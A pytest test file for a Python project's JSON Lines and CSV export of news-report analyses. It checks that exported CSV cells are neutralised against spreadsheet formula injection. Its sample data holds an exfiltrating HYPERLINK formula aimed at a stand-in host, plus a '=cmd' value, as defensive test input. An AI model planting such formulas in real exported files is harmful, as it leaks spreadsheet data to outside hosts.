"""Exports: nothing lost in JSON Lines, nothing dangerous in CSV."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import date
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from strategies import any_text, piles

from onrecord.domain import (
    Act,
    Actor,
    DateCandidate,
    DateEstimate,
    DateReason,
    Declaration,
    Expectation,
    Happening,
    Naming,
    Refusal,
    Report,
    Span,
    Stance,
    Statement,
    TimeExpression,
)
from onrecord.errors import BuildError
from onrecord.publishing import export
from onrecord.publishing.tables import as_written, harmless
from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record, write_record

NAMES = [
    *("reports", "statements", "refusals", "actors", "offices", "instruments", "grounds", "lineage", "divergences"),
    *("acts", "events", "commitments", "forecasts", "questions", "positions", "framing", "question_decisions"),
    *("identities", "decisions", "unread", "duplicates"),
]
TOLD = ("happenings", "declarations", "expectations", "stances", "namings")
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
TEXT = f"{FORMULA} said nobody. -1 degrees,\nthey “wrote” 😀."


def sample() -> Report:
    def span(words: str) -> Span:
        at = TEXT.index(words)
        return Span.of(TEXT, at, at + len(words))

    formula = Actor(FORMULA, "person", ("+1", "@all"))
    plain = Actor("Lake Wire", "organisation")
    day = DateEstimate(
        date(2012, 5, 7),
        None,
        date(2012, 5, 9),
        (DateCandidate(date(2012, 5, 7), 0.5),),
        (DateReason("words of the report", "text", span("nobody")), DateReason("given by the user", "given")),
    )
    return Report(
        name="-river.txt",
        text=TEXT,
        sha256="ab" * 32,
        encoding="utf-8",
        title='\tTab, "quotes"\r\nand lines',
        outlet="'quoted'",
        language="en",
        published=day,
        chrome=(span("😀"),),
        times=(TimeExpression(span("degrees"), "DURATION", "P1D", "APPROX"),),
        statements=(
            Statement(
                span(FORMULA),
                span("said"),
                (span("nobody"), span("-1 degrees")),
                "mixed",
                "speech",
                0.75,
                formula,
                plain,
                (plain, formula),
                day,
                negation=span("nobody"),
                venue=span("-1 degrees,\nthey"),
                addressees=(plain, formula),
            ),
            Statement(None, None, (span("“wrote”"),), "direct", "writing", 0.5),
        ),
        refusals=(Refusal(None, span("said nobody"), span("-1"), "silent", formula),),
    )


@pytest.fixture
def record(tmp_path: Path) -> Iterator[Record]:
    path = tmp_path / "r.onrecord"
    write_record(
        path,
        [sample()],
        unread=[UnreadRow("=cmd", "is empty")],
        duplicates=[DuplicateRow("copy", "ab" * 32, "-river.txt")],
    )
    with open_record(path) as record:
        yield record


def objects(folder: Path, table: str) -> list[dict[str, Any]]:
    # Split as JSON Lines is: at line feeds, nowhere else.
    lines = (folder / f"{table}.jsonl").read_bytes().decode().split("\n")
    assert lines.pop() == ""
    return [json.loads(line) for line in lines]


def cells(folder: Path, table: str) -> list[dict[str, str]]:
    with (folder / f"{table}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("format", ["jsonl", "csv"])
def test_one_file_a_table_and_nothing_else(record: Record, tmp_path: Path, format: Any) -> None:
    folder = tmp_path / "new" / "folder"
    paths = export(record, folder, format)
    assert paths == [folder / f"{name}.{format}" for name in NAMES]
    assert sorted(folder.iterdir()) == sorted(paths)
    before = [path.read_bytes() for path in paths]
    assert [path.read_bytes() for path in export(record, folder, format)] == before
    assert b"\xef\xbb\xbf" not in b"".join(data[3:] for data in before)


def test_jsonl_by_example(record: Record, tmp_path: Path) -> None:
    export(record, tmp_path, "jsonl")
    first, second = objects(tmp_path, "statements")
    assert first["said"] == "nobody … -1 degrees"
    assert first["report"] == {"id": sample().id, "name": "-river.txt"}
    assert first["cue"] == {"start": 45, "end": 49, "text": "said"}
    assert first["relayed_by"][0]["name"] == "Lake Wire"
    assert second["speaker"] is second["source"] is None
    (unread,) = objects(tmp_path, "unread")
    assert unread == {"name": "=cmd", "reason": "is empty", "sha256": ""}
    assert "😀" in (tmp_path / "reports.jsonl").read_text(encoding="utf-8")  # to be read by people too


def test_csv_by_example(record: Record, tmp_path: Path) -> None:
    export(record, tmp_path, "csv")
    first, second = cells(tmp_path, "statements")
    assert first["speaker"] == f"'{FORMULA}"
    assert first["report"] == "'-river.txt"
    assert (first["cue"], first["cue_start"], first["cue_end"]) == ("said", "45", "49")
    columns = list(first)
    assert columns[columns.index("said") - 1] == "cue", "a denial must not read as what it denies"
    assert (first["content_spans"], first["confidence"]) == ("50:56 58:68", "0.75")
    assert (first["said_on"], first["said_earliest"], first["said_latest"]) == ("2012-05-07", "", "2012-05-09")
    assert first["relayed_by"] == f"Lake Wire; {FORMULA}"
    assert (second["speaker"], second["source_start"], second["mode"]) == ("", "", "writing")
    assert (first["negated"], first["hedged"], second["negated"]) == ("true", "false", "false")
    assert (first["venue"], first["occasion"]) == ("'-1 degrees, they", "")
    assert first["addressees"] == f"Lake Wire; {FORMULA}"
    (refusal,) = cells(tmp_path, "refusals")
    assert (refusal["who"], refusal["cue"], refusal["matter"]) == (f"'{FORMULA}", "said nobody", "'-1")
    (report,) = cells(tmp_path, "reports")
    assert report["title"] == '\'\tTab, "quotes"\r\nand lines'
    assert report["outlet"] == "'quoted'"
    assert (report["tagged"], report["characters"]) == ("true", str(len(TEXT)))
    assert as_written(report["title"]) == sample().title
    assert (tmp_path / "actors.csv").read_bytes().startswith(b"\xef\xbb\xbfactor,actor_id,")


def test_every_csv_file_has_its_header_also_without_rows(tmp_path: Path) -> None:
    write_record(tmp_path / "r", [])
    with open_record(tmp_path / "r") as record:
        export(record, tmp_path, "csv")
        export(record, tmp_path, "jsonl")
    for name in NAMES:
        header = (tmp_path / f"{name}.csv").read_text(encoding="utf-8-sig").rstrip("\n")
        assert header.split(",") == list(TABLES[name].columns)
        assert (tmp_path / f"{name}.jsonl").read_bytes() == b""


@given(any_text | st.text(st.sampled_from("'=+-@\t\r\n＝a"), max_size=6))
def test_harmless_cells_begin_like_no_formula_and_lead_back(text: str) -> None:
    cell = harmless(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert as_written(cell) == text
    assert cell in (text, f"'{text}")


quick = settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)


@quick
@given(pile=piles())
def test_reports_can_be_made_again_from_jsonl(tmp_path: Path, pile: list[Report]) -> None:
    # JSON escapes lone surrogates; a high one before a low one would come back as one character.
    assume(not any("\ud800" <= a <= "\udbff" and "\udc00" <= b <= "\udfff" for a, b in _neighbours(pile)))
    write_record(tmp_path / "r", pile)
    with open_record(tmp_path / "r") as record:
        export(record, tmp_path, "jsonl")
    # What people were is in offices.jsonl, and what instruments are in instruments.jsonl, all reports together.
    assert _made_again(tmp_path) == [
        replace(
            report,
            descriptions=(),
            citations=(),
            statements=tuple(replace(statement, grounds=()) for statement in report.statements),
            **{name: _without_places(getattr(report, name)) for name in TOLD},
        )
        for report in pile
    ]


def _without_places(several: Sequence[Any]) -> tuple[Any, ...]:
    """Two statements of the same words have one id, which then leads to neither place."""
    return tuple(replace(each, statement=None) for each in several)


@quick
@given(pile=piles())
def test_any_pile_can_be_written_as_csv(tmp_path: Path, pile: list[Report]) -> None:
    write_record(tmp_path / "r", pile)
    with open_record(tmp_path / "r") as record:
        export(record, tmp_path, "csv")
        for name in NAMES:
            rows = cells(tmp_path, name)
            assert len(rows) == len(list(record.rows(name)))
            assert all(None not in row and None not in row.values() for row in rows)


def test_what_is_not_there_or_can_not_be_written(record: Record, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="choose one of jsonl, csv"):
        export(record, tmp_path, "xls")  # type: ignore[arg-type]
    (tmp_path / "file").touch()
    with pytest.raises(BuildError, match="can't make the folder"):
        export(record, tmp_path / "file", "csv")


def _neighbours(pile: list[Report]) -> Iterator[tuple[str, str]]:
    for report in pile:
        everything = repr(report).encode("ascii", "backslashreplace").decode("unicode_escape")
        yield from pairwise(everything)


def _made_again(folder: Path) -> list[Report]:
    actors = {
        row["id"]: Actor(row["name"], row["kind"], tuple(row["aliases"]), row["within"], row["distinction"])
        for row in objects(folder, "actors")
    }
    statements = {row["id"]: row for row in objects(folder, "statements")}
    found = iter(objects(folder, "statements"))
    refused = iter(objects(folder, "refusals"))

    def span(value: dict[str, Any] | None) -> Any:
        return None if value is None else Span(value["start"], value["end"], value["text"])

    def actor(value: dict[str, Any] | None) -> Any:
        return None if value is None else actors[value["id"]]

    def day(value: str | None) -> Any:
        return None if value is None else date.fromisoformat(value)

    def estimate(value: dict[str, Any]) -> DateEstimate:
        return DateEstimate(
            day(value["best"]),
            day(value["earliest"]),
            day(value["latest"]),
            tuple(DateCandidate(day(each["date"]), each["weight"]) for each in value["candidates"]),
            tuple(
                DateReason(
                    each["reason"],
                    each["origin"],
                    span(each["span"]),
                    each["against"],
                    each["sibling"] or "",
                    span(each["sibling_span"]),
                )
                for each in value["reasons"]
            ),
        )

    def statement(row: dict[str, Any]) -> Statement:
        return Statement(
            span(row["source"]),
            span(row["cue"]),
            tuple(map(span, row["content"])),
            row["kind"],
            row["mode"],
            row["confidence"],
            actor(row["speaker"]),
            actor(row["addressee"]),
            tuple(map(actor, row["relayed_by"])),
            estimate(row["said_on"]),
            *(span(row[name]) for name in ("negation", "hedge", "venue", "occasion")),
            tuple(map(actor, row["addressees"])),
            act=act(row["act"]),
        )

    def act(value: dict[str, Any] | None) -> Any:
        if value is None:
            return None
        people = actor(value["actor"]), actor(value["recipient"])
        return Act(value["code"], span(value["span"]), *people, value["mode"] or "")

    def happening(row: dict[str, Any]) -> Happening:
        words = span(row["clause"]), span(row["trigger"]), row["subject"], row["state"], act(row["act"])
        rest = estimate(row["when"]), span(row["time"]), span(row["place"]), tuple(map(span, row["figures"]))
        return Happening(*words, actor(row["actor"]), actor(row["recipient"]), *rest)

    def declaration(row: dict[str, Any]) -> Declaration:
        words = span(row["act"]), span(row["cue"]), row["kind"], row["polarity"], row["strength"]
        people = actor(row["actor"]), actor(row["target"]), tuple(map(actor, row["also_bound"]))
        when = estimate(row["deadline"]), span(row["deadline_words"])
        return Declaration(*words, *people, span(row["condition"]), *when)

    def expectation(row: dict[str, Any]) -> Expectation:
        words = span(row["expected"]), span(row["cue"]), row["likelihood"], row["polarity"]
        people = actor(row["actor"]), actor(row["of"])
        return Expectation(*words, *people, span(row["condition"]), estimate(row["window"]), span(row["window_words"]))

    def stance(row: dict[str, Any]) -> Stance:
        words = span(row["matter"]), span(row["words"]), tuple(row["key"])
        return Stance(*words, row["side"], row["strength"], actor(row["actor"]), span(row["condition"]))

    def naming(row: dict[str, Any]) -> Naming:
        return Naming(span(row), row["thing"], actor(row["actor"]))

    def refusal(row: dict[str, Any]) -> Refusal:
        words = (span(row[name]) for name in ("source", "cue", "matter"))
        return Refusal(*words, row["kind"], actor(row["who"]), actor(row["addressee"]))

    reports = []
    for row in objects(folder, "reports"):
        assert set(row["statements"]) <= set(statements)
        reports.append(
            Report(
                chrome=tuple(map(span, row["chrome"])),
                times=tuple(
                    TimeExpression(span(each), each["type"], each["value"], each["modifier"]) for each in row["times"]
                ),
                statements=tuple(statement(next(found)) for _ in row["statements"]),
                refusals=tuple(refusal(next(refused)) for _ in row["refusals"]),
                published=estimate(row["published"]),
                acts=tuple(map(act, row["acts"])),
                happenings=tuple(map(happening, row["happenings"])),
                declarations=tuple(map(declaration, row["declarations"])),
                expectations=tuple(map(expectation, row["expectations"])),
                stances=tuple(map(stance, row["stances"])),
                namings=tuple(map(naming, row["namings"])),
                **{
                    name: row[name]
                    for name in ("name", "text", "sha256", "encoding", "media_type", "title", "outlet", "url")
                },
                **{name: row[name] for name in ("agency", "language", "tagged")},
            )
        )
        assert reports[-1].id == row["id"]
    return reports
